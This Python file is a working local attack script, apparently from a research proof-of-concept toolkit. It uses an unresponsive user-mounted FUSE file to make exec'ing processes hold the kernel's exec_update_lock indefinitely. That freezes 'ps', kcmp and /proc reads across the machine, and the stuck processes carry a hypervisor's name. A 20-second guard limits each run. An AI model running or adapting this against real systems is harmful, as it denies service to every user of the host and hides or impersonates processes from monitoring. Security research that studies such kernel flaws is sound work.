"""Executes programs without an end, as an ordinary user.

    hold_exec.py UID PLACE FUSE COUNT

A process executes a program, and has a file of a file system of the user's own (FUSE) open that is closed by that. The server
never answers the kernel's request to close it. Meanwhile the kernel holds a lock (`exec_update_lock`): kcmp(2), each read of its
stat or its links, and each look at its memory wait for it. Its ksm_stat, status and statm can be read.

UID, PLACE and FUSE are those of hold_lock.py. Each process has the name of a hypervisor and a child of that name. The PIDs of
both are printed once the lock is held. All ends with the standard input.

Such a process holds up every `ps` of the machine. So a guard ends the attack after GUARD seconds whatever happens.
"""

import os
import select
import signal
import sys
import time

from attacker import HYPERVISOR, PR_SET_NAME, become, call, die_with_parent, end_with_input, prctl
from slow_file import mount_in_namespace, open_slow_file

GUARD = 20

CONNECTIONS = "/sys/fs/fuse/connections"


def guard():
    """Starts the guard, as the user that calls. Returns a pipe that takes the file system's number."""
    # Without it nothing but a restart ends such a process. systemd mounts it; a host without systemd may lack it.
    if not os.path.ismount(CONNECTIONS):
        call("mount", b"fusectl", CONNECTIONS.encode(), b"fusectl", 0, None)
    wait, tell = os.pipe()
    attacker = os.getpid()
    if os.fork():
        os.close(wait)
        return tell
    os.setsid()
    os.close(tell)
    watched = os.pidfd_open(attacker)
    until, number = time.monotonic() + GUARD, b""
    while (left := until - time.monotonic()) > 0:
        ready = select.select([watched] + [wait] * (not number), [], [], left)[0]
        if wait in ready:
            number = os.read(wait, 20) or b"-"
        if watched in ready:
            break
    try:
        signal.pidfd_send_signal(watched, signal.SIGKILL)
    except ProcessLookupError:
        pass
    try:
        with open(f"{CONNECTIONS}/{number.decode()}/abort", "w") as file:
            file.write("1")
    except OSError:
        # It has ended with its server.
        pass
    os._exit(0)


def is_held(pid):
    """Has its new memory, which holds nothing but a stack yet, and waits."""
    with open(f"/proc/{pid}/statm") as file:
        pages = int(file.read().split()[0])
    with open(f"/proc/{pid}/status") as file:
        state = file.read().split("State:\t")[1][0]
    if state in "ZX":
        sys.exit("the attack has failed")
    return state in "SD" and pages < 256


def child(tell):
    die_with_parent()
    os.write(tell, b"%d\n" % os.getpid())
    signal.pause()


def hold(fuse):
    told, tell = os.pipe()
    pid = os.fork()
    if pid == 0:
        die_with_parent()
        os.close(fuse)
        prctl(PR_SET_NAME, HYPERVISOR)
        if os.fork() == 0:
            child(tell)
        os.execv("/bin/true", ["true"])
    own_child = int(os.read(told, 20))
    while not is_held(pid):
        time.sleep(0.001)
    os.close(told)
    os.close(tell)
    return pid, own_child


def main():
    user, place, device, count = int(sys.argv[1]), sys.argv[2], sys.argv[3], int(sys.argv[4])
    tell_guard = guard()
    become(user)
    fuse, path = mount_in_namespace(place, device)
    file = open_slow_file(fuse, path, closes=False)
    os.write(tell_guard, b"%d" % os.minor(os.fstat(file).st_dev))
    os.close(tell_guard)
    for _ in range(count):
        for pid in hold(fuse):
            print(pid, flush=True)
    # The file system ends with its server, and so does each wait.
    end_with_input()


main()
